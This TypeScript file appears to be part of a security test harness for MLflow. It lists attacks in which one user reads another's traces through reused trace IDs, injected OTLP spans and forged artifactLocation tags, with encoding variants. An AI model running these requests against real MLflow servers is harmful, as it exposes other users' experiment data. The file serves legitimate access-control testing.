import type { Attack, AttackContext } from '../harness/attack.js';
import { otlpProtobuf } from '../harness/otlp-proto.js';
import { newTraceHex, otlpJson, traceInfo, V2, V3 } from '../harness/world.js';

/** Reads a trace of the attacker's own in every way that returns its spans or info. */
export async function readTrace(ctx: AttackContext, traceId: string): Promise<void> {
  await ctx.attack('GET', '/ajax-api/2.0/mlflow/get-trace-artifact', { query: { request_id: traceId } });
  await ctx.attack('GET', '/ajax-api/3.0/mlflow/get-trace-artifact', { query: { request_id: traceId } });
  await ctx.attack('GET', `${V3}/traces/${traceId}`);
}

export const victimTraceLocation = (ctx: AttackContext) => `mlflow-artifacts:/${ctx.target.experimentId}/traces/${ctx.target.artifactTraceId}/artifacts`;

/** Class 2: start a trace (v3) in M with the id of S's trace; MLflow moves the existing trace. */
const startWithVictimId = (name: string, path: string, body: (ctx: AttackContext, m: string) => unknown): Attack => ({
  name,
  class: '2 start trace with an existing id',
  control: 'direct',
  async run(ctx) {
    const m = await ctx.own.experiment();
    await ctx.attack('POST', path, { body: body(ctx, m) });
    await readTrace(ctx, ctx.target.artifactTraceId);
  },
});

const camelTraceInfo = (traceId: string, experimentId: string) => ({
  trace: {
    traceInfo: {
      traceId,
      traceLocation: { type: 'MLFLOW_EXPERIMENT', mlflowExperiment: { experimentId } },
      requestTime: new Date().toISOString(),
      executionDuration: '1s',
      state: 'OK',
    },
  },
});

/** Class 3: OTLP spans whose trace id is S's (spans land in S's trace), or whose root span sets location tags. */
const otlp = (name: string, encoding: 'json' | 'protobuf', trace: (ctx: AttackContext) => string, attrs: (ctx: AttackContext) => Record<string, string>, after?: (ctx: AttackContext, traceId: string) => Promise<void>): Attack => ({
  name,
  class: '3 OTLP export',
  control: 'direct',
  async run(ctx) {
    const m = await ctx.own.experiment();
    const hex = trace(ctx);
    const raw = encoding === 'json' ? otlpJson(hex, 'mallory-span', attrs(ctx)) : otlpProtobuf(hex, 'mallory-span', attrs(ctx));
    await ctx.attack('POST', '/v1/traces', {
      raw,
      headers: { 'content-type': encoding === 'json' ? 'application/json' : 'application/x-protobuf', 'x-mlflow-experiment-id': m },
    });
    await after?.(ctx, `tr-${hex}`);
  },
});

export const hexOf = (traceId: string) => traceId.replace(/^tr-/, '');
export const locationTags = (ctx: AttackContext) => ({
  'mlflow.traceTag.mlflow.artifactLocation': victimTraceLocation(ctx),
  'mlflow.traceTag.mlflow.trace.spansLocation': 'ARTIFACT_REPO',
});

/** Class 4: point a trace of one's own at S's trace data with a location tag, then read it. */
const retag = (name: string, method: string, path: (own: string) => string, body: (ctx: AttackContext, own: string) => unknown, control: Attack['control'] = 'direct'): Attack => ({
  name,
  class: '4 location tags',
  control,
  async run(ctx) {
    const own = await ctx.own.trace();
    await ctx.attack(method, path(own), { body: body(ctx, own) });
    await readTrace(ctx, own);
  },
});

export const traceAttacks: Attack[] = [
  startWithVictimId('v3 start trace in M with S trace id', `${V3}/traces`, (ctx, m) => traceInfo(ctx.target.artifactTraceId, m)),
  startWithVictimId('v3 start trace in M with S trace id (ajax-api)', `/ajax-api/3.0/mlflow/traces`, (ctx, m) => traceInfo(ctx.target.artifactTraceId, m)),
  startWithVictimId('v3 start trace in M with S trace id (camelCase fields)', `${V3}/traces`, (ctx, m) => camelTraceInfo(ctx.target.artifactTraceId, m)),
  startWithVictimId('v3 start trace in M with S trace id (double-encoded body)', `${V3}/traces`, (ctx, m) => JSON.stringify(traceInfo(ctx.target.artifactTraceId, m))),
  {
    name: 'v3 start trace in M with the id of S trace held in the tracking store',
    class: '2 start trace with an existing id',
    control: 'direct',
    async run(ctx) {
      await ctx.attack('POST', `${V3}/traces`, { body: traceInfo(ctx.target.storeTraceId, await ctx.own.experiment()) });
      await readTrace(ctx, ctx.target.storeTraceId);
    },
  },

  otlp('OTLP JSON spans into S trace id, header M', 'json', (ctx) => hexOf(ctx.target.storeTraceId), () => ({})),
  otlp('OTLP protobuf spans into S trace id, header M', 'protobuf', (ctx) => hexOf(ctx.target.storeTraceId), () => ({})),
  otlp('OTLP JSON spans into S artifact-backed trace id, header M', 'json', (ctx) => hexOf(ctx.target.artifactTraceId), () => ({})),
  otlp('OTLP JSON new trace in M whose root span sets artifactLocation+spansLocation to S trace', 'json', () => newTraceHex(), locationTags, readTrace),
  otlp('OTLP protobuf new trace in M whose root span sets artifactLocation+spansLocation to S trace', 'protobuf', () => newTraceHex(), locationTags, readTrace),
  {
    name: 'v2 start trace in M with tag mlflow.artifactLocation in its tag list',
    class: '4 location tags',
    control: 'mlflow-refuses',
    async run(ctx) {
      const started = await ctx.attack('POST', `${V2}/traces`, {
        body: { experiment_id: await ctx.own.experiment(), timestamp_ms: Date.now(), tags: [{ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) }] },
      });
      const id = started.json?.trace_info?.request_id as string | undefined;
      if (id) await readTrace(ctx, id);
    },
  },
  {
    name: 'v2 end own trace with tag mlflow.artifactLocation in its tag list',
    class: '4 location tags',
    control: 'direct',
    async run(ctx) {
      const started = await ctx.mallory('POST', `${V2}/traces`, { body: { experiment_id: await ctx.own.experiment(), timestamp_ms: Date.now() } });
      const id = started.json?.trace_info?.request_id as string | undefined;
      if (!id) throw new Error(`v2 start trace failed: ${started.text.slice(0, 200)}`);
      await ctx.attack('PATCH', `${V2}/traces/${id}`, {
        body: { timestamp_ms: Date.now(), status: 'OK', tags: [{ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) }] },
      });
      await readTrace(ctx, id);
    },
  },

  retag('v2 PATCH trace tag mlflow.artifactLocation on own trace', 'PATCH', (own) => `${V2}/traces/${own}/tags`, (ctx) => ({ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) })),
  retag('v3 PATCH trace tag mlflow.artifactLocation on own trace', 'PATCH', (own) => `${V3}/traces/${own}/tags`, (ctx) => ({ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) })),
  retag('v2 PATCH trace tag mlflow.artifactLocation on own trace (ajax-api)', 'PATCH', (own) => `/ajax-api/2.0/mlflow/traces/${own}/tags`, (ctx) => ({ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) })),
  retag('v3 PATCH trace tag mlflow.artifactLocation on own trace (double-encoded body)', 'PATCH', (own) => `${V3}/traces/${own}/tags`, (ctx) =>
    JSON.stringify({ key: 'mlflow.artifactLocation', value: victimTraceLocation(ctx) }),
  ),
  retag('v2 PATCH trace tag mlflow.artifactLocation with the trace id also in the body', 'PATCH', (own) => `${V2}/traces/${own}/tags`, (ctx, own) => ({
    request_id: own,
    key: 'mlflow.artifactLocation',
    value: victimTraceLocation(ctx),
  })),
  retag(
    'v2 PATCH trace tag mlflow.trace.spansLocation (MLflow refuses it itself)',
    'PATCH',
    (own) => `${V2}/traces/${own}/tags`,
    () => ({ key: 'mlflow.trace.spansLocation', value: 'ARCHIVE_REPO' }),
    'mlflow-refuses',
  ),
  {
    name: 'v3 start a new trace in M with tag mlflow.artifactLocation pointing at S trace',
    class: '4 location tags',
    control: 'mlflow-refuses',
    async run(ctx) {
      const id = `tr-${newTraceHex()}`;
      await ctx.attack('POST', `${V3}/traces`, { body: traceInfo(id, await ctx.own.experiment(), { 'mlflow.artifactLocation': victimTraceLocation(ctx) }) });
      await readTrace(ctx, id);
    },
  },
  {
    name: 'v3 re-start own trace with tag mlflow.artifactLocation pointing at S trace',
    class: '4 location tags',
    control: 'mlflow-refuses',
    async run(ctx) {
      const own = await ctx.own.trace();
      await ctx.attack('POST', `${V3}/traces`, { body: traceInfo(own, await ctx.own.experiment(), { 'mlflow.artifactLocation': victimTraceLocation(ctx) }) });
      await readTrace(ctx, own);
    },
  },
];
